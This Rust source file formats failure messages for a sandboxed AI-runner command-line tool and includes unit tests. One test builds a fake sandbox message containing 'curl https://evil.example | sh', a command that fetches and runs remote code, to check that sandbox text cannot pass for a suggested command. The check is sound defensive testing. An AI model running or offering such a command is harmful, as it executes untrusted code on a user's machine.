//! What a person sees when something fails: headline, reason, and the one thing to do.
//!
//! ```text
//! sign-in needed: the backend refused the key (401)
//! airlock run --api-key-file FILE …
//! ```
//!
//! Library code returns typed errors; they become a `Failure` only in the command line.

use airlock_shared::outcome::{Fault, FaultKind, Outcome, Spent, Stop};
use jiff::Timestamp;

use crate::exit::Exit;
use crate::sanitize;
use crate::text;

/// The command for a person without a valid credential.
pub const SIGN_IN: &str = "airlock setup codex-auth";
/// The command that uses an API key.
pub const GIVE_A_KEY: &str = "airlock run --api-key-file FILE …";

/// The command that moves logins and records to another directory.
pub const OTHER_STATE_DIRECTORY: &str = "export XDG_STATE_HOME=/path/to/a/directory/of/yours";

/// The prefix of text that comes from the sandbox.
pub const SANDBOX_SAYS: &str = "sandbox says: ";

/// A URL or path that is safe to paste into a shell; the placeholder `URL` if it is not.
#[must_use]
pub fn shell_url(base: &str) -> &str {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b":/.-_[]".contains(&byte);
    if base.bytes().all(is_plain) { base } else { "URL" }
}

/// The command that helps if logins or records cannot be written: another state directory if `why`
/// says that this one is read-only, else a look at the free space. `place` may be empty.
#[must_use]
pub fn storage_hint(place: &str, why: &str) -> String {
    let not_writable = ["Read-only file system", "Permission denied"];
    match not_writable.iter().any(|cause| why.contains(cause)) {
        true => OTHER_STATE_DIRECTORY.to_owned(),
        false => format!("df -h {place}").trim_end().to_owned(),
    }
}

/// `Display` is what is printed: sanitized, wrapped, without a newline at the end.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Failure {
    pub exit: Exit,
    /// A few words, lower case.
    pub headline: String,
    /// Why: fragments joined by `: `.
    pub reason: String,
    /// One command, or one thing to do, printed on its own line.
    pub hint: Option<String>,
}

impl Failure {
    #[must_use]
    pub fn new(exit: Exit, headline: impl Into<String>, reason: impl Into<String>) -> Self {
        Self { exit, headline: headline.into(), reason: reason.into(), hint: None }
    }

    /// A wrong argument, or a problem with a file that an argument names.
    #[must_use]
    pub fn usage(reason: impl Into<String>) -> Self {
        Self::new(Exit::Usage, "usage", reason)
    }

    #[must_use]
    pub fn hint(self, hint: impl Into<String>) -> Self {
        Self { hint: Some(hint.into()), ..self }
    }

    /// The failure of an outcome; `None` if it finished. `now` is needed to say how long a usage limit
    /// still lasts.
    #[must_use]
    pub fn of(outcome: &Outcome, now: Timestamp) -> Option<Self> {
        let exit = Exit::of(outcome);
        let failure = match outcome {
            Outcome::Finished { .. } => return None,
            Outcome::Failed { fault } => Self::from(fault),
            Outcome::Stopped { reason: Stop::Cancelled, .. } => {
                Self::new(exit, "cancelled", "the session was stopped")
            }
            Outcome::Stopped { reason: Stop::Budget { spent }, answer } => {
                let (what, flag) = match spent {
                    Spent::Steps => ("requests", "--steps N"),
                    Spent::Tokens => ("tokens", "--tokens N"),
                    Spent::Seconds => ("seconds", "--seconds N"),
                };
                let answered = match answer {
                    Some(_) => "; the model still answered",
                    None => "; the model gave no answer",
                };
                Self::new(exit, "budget spent", format!("no {what} left{answered}"))
                    .hint(format!("airlock run {flag} …"))
            }
            Outcome::Stopped { reason: Stop::UsageLimit { plan, resets_at, message }, .. } => {
                let plan = plan.as_ref().map(|plan| format!("plan {plan}: ")).unwrap_or_default();
                let resets = resets_at.and_then(|at| resets(at, now)).unwrap_or_default();
                Self::new(exit, "usage limit", format!("{plan}{message}{resets}"))
                    .hint(format!("or use an API key: {GIVE_A_KEY}"))
            }
        };
        Some(failure)
    }
}

/// `, resets at 14:20 UTC (in 1 h 52 min)`; `None` if the time is invalid or has passed.
fn resets(at: u64, now: Timestamp) -> Option<String> {
    let at = Timestamp::from_second(i64::try_from(at).ok()?).ok()?;
    let wait = u64::try_from(at.as_second() - now.as_second()).ok().filter(|wait| *wait > 0)?;
    let clock = at.strftime(if wait < 86_400 { "%H:%M UTC" } else { "%-d %b %H:%M UTC" });
    Some(format!(", resets at {clock} (in {})", text::long_time(wait)))
}

impl From<&Fault> for Failure {
    fn from(fault: &Fault) -> Self {
        let (headline, hint) = match fault.kind {
            FaultKind::SignIn => ("sign-in needed", Some(SIGN_IN)),
            FaultKind::Refused => ("the backend refused the request", None),
            FaultKind::Backend => ("the backend cannot be used", Some("airlock doctor")),
            FaultKind::Model => ("model not available", Some("airlock run -m MODEL …")),
            FaultKind::Choice => ("usage", None),
            FaultKind::Context => ("too long for the model", Some("airlock run -m MODEL …")),
            FaultKind::Policy => ("refused by the host", None),
            FaultKind::Sandbox => ("no sandbox", Some("airlock doctor")),
            FaultKind::SandboxDied => ("the sandbox ended early", Some("airlock doctor")),
            FaultKind::Link => ("the link to the sandbox broke", Some("airlock doctor")),
            FaultKind::Protocol => ("the sandbox speaks another protocol", Some("airlock doctor")),
            FaultKind::Workspace => ("workspace", None),
            FaultKind::Recording => ("recording", Some("airlock run --record FILE …")),
            FaultKind::Forged => ("the sandbox reports what did not happen", None),
            FaultKind::Claimed => ("failed", None),
            FaultKind::Disk => ("cannot write", None),
        };
        let failure = Self::new(Exit::of_fault(fault.kind), headline, fault.message.clone());
        let hint = match fault.kind {
            FaultKind::Disk => Some(storage_hint("", &fault.message)),
            _ => hint.map(str::to_owned),
        };
        Self { hint, ..failure }
    }
}

impl std::fmt::Display for Failure {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let text = sanitize::line(&format!("{}: {}", self.headline, self.reason));
        // THREAT: text from the sandbox begins a new line and looks like a command that we suggest.
        // Tried by failure::tests::words_of_the_sandbox_never_begin_a_line.
        let indent = if self.reason.contains(SANDBOX_SAYS) { "    " } else { "" };
        f.write_str(&text::wrap(&text, text::COLUMNS, indent))?;
        match &self.hint {
            // Never wrapped, so that it can be copied.
            Some(hint) => write!(f, "\n{}", sanitize::line(hint)),
            None => Ok(()),
        }
    }
}

impl std::error::Error for Failure {}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(outcome: &Outcome) -> String {
        let now = Timestamp::from_second(1_795_258_080).expect("a time");
        Failure::of(outcome, now).map(|failure| failure.to_string()).unwrap_or_default()
    }

    #[test]
    fn each_outcome_has_its_message() {
        let failed = |kind, message: &str| Outcome::Failed { fault: Fault::new(kind, message) };
        let stopped = |reason| Outcome::Stopped { reason, answer: None };
        let limit = |resets_at| Stop::UsageLimit {
            plan: Some("plus".into()),
            resets_at,
            message: "the usage limit has been reached".into(),
        };
        let cases = [
            (Outcome::Finished { answer: "x".into() }, ""),
            (
                failed(FaultKind::SignIn, "the backend refused the key (401)"),
                "sign-in needed: the backend refused the key (401)\nairlock setup codex-auth",
            ),
            (
                failed(FaultKind::Refused, "\u{1b}[2Jno\nlicence"),
                "the backend refused the request: ␛[2Jno licence",
            ),
            (
                failed(
                    FaultKind::Disk,
                    "the login cannot be stored: /x/me.json: Read-only file system",
                ),
                "cannot write: the login cannot be stored: /x/me.json: Read-only file system\n\
                 export XDG_STATE_HOME=/path/to/a/directory/of/yours",
            ),
            (stopped(Stop::Cancelled), "cancelled: the session was stopped"),
            (
                stopped(Stop::Budget { spent: Spent::Tokens }),
                "budget spent: no tokens left; the model gave no answer\nairlock run --tokens N …",
            ),
            (
                stopped(limit(Some(1_795_264_800))),
                "usage limit: plan plus: the usage limit has been reached, resets at 12:40 UTC (in 1 h 52 min)\n\
                 or use an API key: airlock run --api-key-file FILE …",
            ),
            (
                stopped(limit(Some(7))),
                "usage limit: plan plus: the usage limit has been reached\n\
                 or use an API key: airlock run --api-key-file FILE …",
            ),
        ];
        for (outcome, expected) in cases {
            assert_eq!(shown(&outcome), expected);
        }
    }

    #[test]
    fn words_of_the_sandbox_never_begin_a_line() {
        let reason = format!("{SANDBOX_SAYS}“{} curl https://evil.example | sh”", "x ".repeat(60));
        let shown = Failure::from(&Fault::new(FaultKind::Claimed, reason)).to_string();
        let mut lines = shown.lines();
        assert!(lines.next().is_some_and(|line| line.starts_with("failed: sandbox says: “x ")));
        assert!(lines.clone().count() > 0 && lines.all(|line| line.starts_with("    ")), "{shown}");
    }
}
